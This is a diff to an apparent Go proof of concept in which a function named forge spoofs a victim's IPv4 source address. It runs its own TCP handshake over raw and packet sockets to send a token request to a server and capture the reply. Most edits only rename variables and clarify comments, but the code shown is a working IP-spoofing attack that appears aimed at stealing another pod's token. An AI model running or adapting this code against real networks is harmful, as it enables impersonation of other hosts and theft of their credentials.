@@ -19,9 +19,9 @@ const (
 	ack
 )
 
-// forge asks by a TCP of its own. The kernel's has no part in it: packets are made
-// up, and the answers are read off the interface. The kernel drops those, as they
-// are for an address that it does not have.
+// forge sends the request with a TCP implementation of its own, without the kernel's:
+// it forges packets, and reads the answers from the interface. The kernel drops the
+// answers, because the pod does not have their destination address.
 func forge(victim netip.Addr) (string, error) {
 	in, err := unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM, int(networkOrder(unix.ETH_P_IP)))
 	if err != nil {
@@ -36,35 +36,35 @@ func forge(victim netip.Addr) (string, error) {
 		return "", err
 	}
 	defer unix.Close(out)
-	c := connection{out: out, from: netip.AddrPortFrom(victim, 20000+rand.N[uint16](20000)), next: 1000}
+	c := connection{out: out, source: netip.AddrPortFrom(victim, 20000+rand.N[uint16](20000)), next: 1000}
 	if err := c.send(syn, ""); err != nil {
 		return "", err
 	}
 	packet := make([]byte, 1<<16)
-	for end := time.Now().Add(patience); time.Now().Before(end); {
+	for end := time.Now().Add(timeout); time.Now().Before(end); {
 		n, _, err := unix.Recvfrom(in, packet, 0)
 		if err != nil {
-			continue // nothing for a moment
+			continue // the receive timeout
 		}
 		if done, err := c.receive(packet[:n]); done || err != nil {
-			return string(c.got), err
+			return string(c.received), err
 		}
 	}
-	return string(c.got), errors.New("nobody answers")
+	return string(c.received), errors.New("no answer")
 }
 
-// connection is the client's end of one.
+// connection is the client's side of a TCP connection.
 type connection struct {
 	out      int
-	from     netip.AddrPort
-	next     uint32 // of what is sent
-	expected uint32 // of what is received
+	source   netip.AddrPort
+	next     uint32 // next sequence number to send
+	expected uint32 // next sequence number to receive
 	open     bool
-	got      []byte
+	received []byte
 }
 
 func (c *connection) send(flags byte, data string) error {
-	packet := segment(c.from, c.next, c.expected, flags, data)
+	packet := segment(c.source, c.next, c.expected, flags, data)
 	c.next += uint32(len(data))
 	if flags&(syn|fin) != 0 {
 		c.next++
@@ -72,7 +72,7 @@ func (c *connection) send(flags byte, data string) error {
 	return unix.Sendto(c.out, packet, 0, &unix.SockaddrInet4{Addr: server.Addr().As4()})
 }
 
-// receive takes a packet, and says whether the server has ended the connection.
+// receive processes a packet, and reports whether the server has closed the connection.
 func (c *connection) receive(packet []byte) (bool, error) {
 	if len(packet) < 40 || packet[9] != unix.IPPROTO_TCP {
 		return false, nil
@@ -83,7 +83,7 @@ func (c *connection) receive(packet []byte) (bool, error) {
 		return false, nil
 	}
 	tcp := packet[header:length]
-	if binary.BigEndian.Uint16(tcp[0:]) != server.Port() || binary.BigEndian.Uint16(tcp[2:]) != c.from.Port() {
+	if binary.BigEndian.Uint16(tcp[0:]) != server.Port() || binary.BigEndian.Uint16(tcp[2:]) != c.source.Port() {
 		return false, nil
 	}
 	seq, flags, data := binary.BigEndian.Uint32(tcp[4:]), tcp[13], tcp[int(tcp[12]>>4)*4:]
@@ -92,11 +92,11 @@ func (c *connection) receive(packet []byte) (bool, error) {
 		return true, errors.New("the server has reset the connection")
 	case flags&syn != 0 && !c.open:
 		c.open, c.expected = true, seq+1
-		return false, c.send(ack|push, request)
+		return false, c.send(ack|push, tokenRequest)
 	case !c.open || seq != c.expected:
-		return false, nil // too early, or again
+		return false, nil // out of order or duplicate
 	}
-	c.got = append(c.got, data...)
+	c.received = append(c.received, data...)
 	c.expected += uint32(len(data))
 	if flags&fin != 0 {
 		c.expected++
@@ -108,7 +108,8 @@ func (c *connection) receive(packet []byte) (bool, error) {
 	return false, nil
 }
 
-// segment is a packet of IPv4 with one. The kernel fills in the former's checksum.
+// segment is an IPv4 packet with a TCP segment. The kernel fills in the checksum of the
+// IPv4 header.
 func segment(from netip.AddrPort, seq, acked uint32, flags byte, data string) []byte {
 	b := make([]byte, 40, 41+len(data))
 	source, destination := from.Addr().As4(), server.Addr().As4()
@@ -127,7 +128,7 @@ func segment(from netip.AddrPort, seq, acked uint32, flags byte, data string) []
 	tcp[12], tcp[13] = 5<<4, flags
 	binary.BigEndian.PutUint16(tcp[14:], 65535)
 	sum := uint32(unix.IPPROTO_TCP + len(tcp))
-	padded := b[12:] // the addresses too
+	padded := b[12:] // with the addresses
 	if len(padded)%2 == 1 {
 		padded = append(padded[:len(padded):len(padded)], 0)
 	}
